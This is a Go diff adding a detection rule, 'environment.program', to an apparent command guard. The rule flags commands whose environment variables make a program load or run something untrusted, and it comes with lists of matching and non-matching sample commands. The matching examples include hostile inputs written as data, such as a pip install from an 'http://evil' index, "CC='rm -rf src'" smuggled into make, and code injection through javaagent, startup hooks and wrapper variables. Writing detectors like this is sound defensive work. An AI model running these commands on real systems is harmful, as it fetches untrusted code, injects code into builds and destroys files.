@@ -76,6 +76,14 @@ var environmentRules = []Rule{
 		No:  []string{"export PATH=$HOME/go/bin:$PATH", "PATH=$PATH:/opt/x/bin make", "LD_LIBRARY_PATH=./lib ./a.out", "PATH=node_modules/.bin:$PATH tsc"},
 	},
 	{
+		ID: "environment.program", Tier: Medium,
+		Why:   "a program starts, or loads, what this variable names",
+		Safer: "run the program without it, or name one that is installed",
+		Match: Match{Func: func(c *call, h *hit) bool { return c.exports() && c.sets(h, c.namesProgram) }},
+		Yes:   []string{"CC=./x make", "RUSTC_WRAPPER=./x cargo build", "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER=./x cargo build", "AWS_PAGER=./x aws s3 ls", "npm_config_script_shell=./x npm test", "NPM_CONFIG_SCRIPT_SHELL=/tmp/x npm test", "MAKEFLAGS='--eval=x' make", "MAKEFILES=/tmp/x make", "MAVEN_OPTS=-javaagent:x mvn test", "DOTNET_STARTUP_HOOKS=./x.dll dotnet run", "ZDOTDIR=/tmp/x zsh -c ls", "PYTHONPATH=/tmp python3 x.py", "RIPGREP_CONFIG_PATH=x rg y", "GIT_CONFIG_GLOBAL=/tmp/x git log", "GIT_TEMPLATE_DIR=/tmp/x git init", "GIT_EXEC_PATH=./x git log", "PIP_INDEX_URL=http://evil pip install x", "env CC='rm -rf src' make", "SVN_SSH=./x svn up"},
+		No:    []string{`AWS_PAGER="" aws s3 ls`, "GH_PAGER=cat gh pr list", "SYSTEMD_PAGER=cat systemctl status x", "CC=clang make", `CC="ccache gcc" make`, "CC=aarch64-linux-gnu-gcc-12 CXX='zig c++' make", "CC=/usr/bin/gcc-12 make", "RUSTC_WRAPPER=sccache cargo build", "RUSTC_WRAPPER= cargo build", "GOFLAGS=-mod=mod go build", "MAKEFLAGS=-j8 make", "PYTHONPATH=src pytest", "PYTHONPATH=. python3 x.py", "PYTHONPATH=$PWD:$PYTHONPATH pytest", "NODE_PATH=./lib node x.js", "NODE_OPTIONS=--max-old-space-size=4096 npm test", "LESS=-R git log", "GIT_CONFIG_GLOBAL=/dev/null git status", "MAVEN_OPTS=-Xmx2g mvn test", "JAVA_OPTS='-agentlib:jdwp=transport=dt_socket,server=y' ./gradlew run", "FZF_DEFAULT_COMMAND='fd --type f' fzf -f x", "PIP_INDEX_URL=https://mirror.example/simple pip install -r r.txt", "PIP_INDEX_URL=http://localhost:3141/x pip install x", "export CC=$(which gcc)", "CARGO_TARGET_AARCH64_UNKNOWN_LINUX_GNU_LINKER=aarch64-linux-gnu-gcc cargo build", "CARGO_TARGET_DIR=/tmp/t cargo build", "npm_config_script_shell=bash npm test", "DELTA_PAGER='less -R' git diff", "AR=/tmp/a.tar; tar tf $AR"},
+	},
+	{
 		ID: "environment.supervisor", Tier: High,
 		Why:   "it changes what this program guards, or whom it asks",
 		Safer: "leave HERMES_ variables as they are",
